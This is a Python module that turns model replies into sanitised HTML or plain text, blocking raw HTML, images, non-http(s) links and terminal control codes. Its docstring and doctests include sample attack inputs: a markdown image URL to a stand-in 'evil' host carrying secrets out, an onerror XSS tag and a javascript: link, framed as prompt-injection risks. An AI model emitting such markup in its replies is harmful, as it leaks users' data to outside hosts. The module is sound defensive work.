"""Model text as something safe to show: sanitised HTML (dashboard, notebook) or plain text.

A model's reply is untrusted: a prompt injection can make it write HTML or markdown that runs
script or loads a URL carrying data out (``![x](http://evil/?q=<your portfolio>)``: an image
loads by itself). :func:`to_html` renders markdown (`markdown-it-py`, CommonMark) with:

- **no raw HTML**: tags in the text are shown as text (``&lt;img ...&gt;``), so no ``<script>``,
  no ``style``, no event-handler attributes can appear;
- **no images at all**: an image becomes the words ``[image: alt]`` and, when its URL is
  http(s), a plain link to it, never an ``<img>`` or any ``src``: nothing loads by itself;
- **links only to absolute http(s) URLs**, each with ``rel="noopener noreferrer nofollow"``,
  opening in a new tab, followed by the URL in text when the link's words differ from it (a
  person sees where it goes before clicking). Any other scheme (``javascript:``, ``data:``,
  ``vbscript:``, ``file:``, relative paths), however encoded, stays plain text.

Then a last check walks the HTML produced and accepts only an allow-list of tags and
attributes; anything else (a renderer bug) falls back to the escaped text.
:func:`to_text` strips terminal control sequences for plain output.

>>> to_html('Hi <img src=x onerror=alert(1)> **there**')
'<div class="vt-copilot-md"><p>Hi &lt;img src=x onerror=alert(1)&gt; <strong>there</strong></p>\\n</div>'
>>> "<img" in to_html("![chart](http://evil.example/?q=secret)")
False
>>> "href" in to_html("[click](javascript:alert(1))")
False
"""

from __future__ import annotations

import html
import re
from collections.abc import Sequence
from html.parser import HTMLParser
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.token import Token

__all__ = ["ALLOWED_TAGS", "REL", "safe_url", "to_html", "to_text"]

REL = "noopener noreferrer nofollow"
#: Tags the HTML may contain (what CommonMark renders, minus images and raw HTML).
ALLOWED_TAGS = frozenset({"div", "p", "br", "strong", "em", "code", "pre", "blockquote", "ul", "ol", "li", "a",
                          "h1", "h2", "h3", "h4", "h5", "h6", "hr", "span"})  # fmt: skip
_ALLOWED_ATTRS = {"a": {"href", "rel", "target", "title"}, "div": {"class"}, "span": {"class"}, "ol": {"start"},
                  "code": {"class"}}  # fmt: skip
_URL = re.compile(r"https?://[^\s\x00-\x1f\x7f<>\"'`]+", re.IGNORECASE)
_CONTROL = re.compile(r"\x1b\[[0-9;?]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?|[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def safe_url(url: object) -> bool:
    """Whether ``url`` is an absolute http(s) URL with nothing odd in it.

    >>> safe_url("https://example.com/a?b=1"), safe_url("JavaScript:alert(1)"), safe_url("//evil")
    (True, False, False)
    """
    return isinstance(url, str) and len(url) <= 2048 and _URL.fullmatch(url) is not None


def _text_of(children: Sequence[Token]) -> str:
    return "".join(c.content for c in children if c.type in ("text", "code_inline"))


def _link_open(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: dict[str, Any]) -> str:
    href = str(tokens[idx].attrs.get("href", ""))
    # The link's words, to decide whether the URL must be spelled out after them.
    words: list[Token] = []
    for t in tokens[idx + 1:]:
        if t.type == "link_close":
            break
        words.append(t)
    env.setdefault("vt_links", []).append((href, _text_of(words).strip()))
    return f'<a href="{html.escape(href, quote=True)}" rel="{REL}" target="_blank">'


def _link_close(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: dict[str, Any]) -> str:
    href, words = env["vt_links"].pop()
    shown = href.rstrip("/").casefold()
    if words.rstrip("/").casefold() in (shown, shown.split("://", 1)[-1]):
        return "</a>"
    return f'</a> <span class="vt-url">({html.escape(href)})</span>'


def _image(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: dict[str, Any]) -> str:
    # Never an <img>: a URL that loads by itself can carry data out. Words and a link instead.
    t = tokens[idx]
    alt = html.escape(_text_of(t.children or []) or "image")
    src = str(t.attrs.get("src", ""))
    if not safe_url(src):
        return f'<span class="vt-image">[image: {alt}]</span>'
    url = html.escape(src, quote=True)
    return (f'<span class="vt-image">[image: {alt}]</span> '
            f'<a href="{url}" rel="{REL}" target="_blank">{html.escape(src)}</a>')  # fmt: skip


def _markdown() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    # A link or image whose destination is not absolute http(s) is not parsed as one: it stays
    # text. markdown-it decodes entities and escapes before asking, so encodings do not help.
    md.validateLink = safe_url  # type: ignore[method-assign]
    md.add_render_rule("link_open", _link_open)
    md.add_render_rule("link_close", _link_close)
    md.add_render_rule("image", _image)
    return md


_MD = _markdown()


class _Check(HTMLParser):
    """Walks rendered HTML; ``bad`` says what broke the allow-list (None: all fine)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        allowed = _ALLOWED_ATTRS.get(tag, set())
        if tag not in ALLOWED_TAGS:
            self.bad = self.bad or f"tag {tag}"
        for name, value in attrs:
            if name not in allowed:
                self.bad = self.bad or f"attribute {name} on {tag}"
            elif name == "href" and not safe_url(value):
                self.bad = self.bad or f"href {value!r}"

    handle_startendtag = handle_starttag


def to_html(text: object) -> str:
    """``text`` (markdown from a model) as sanitised HTML: see the module notes."""
    src = text if isinstance(text, str) else ("" if text is None else str(text))
    out = f'<div class="vt-copilot-md">{_MD.render(to_text(src))}</div>'
    check = _Check()
    check.feed(out)
    check.close()
    if check.bad is not None:  # never expected: the renderer above emits only allowed markup
        return f'<div class="vt-copilot-md"><pre>{html.escape(src)}</pre></div>'
    return out


def to_text(text: object) -> str:
    """``text`` without terminal escape sequences or control characters (tabs and newlines stay).

    >>> to_text("ok\\x1b[31m red\\x1b[0m\\x07")
    'ok red'
    """
    src = text if isinstance(text, str) else ("" if text is None else str(text))
    return _CONTROL.sub("", src)
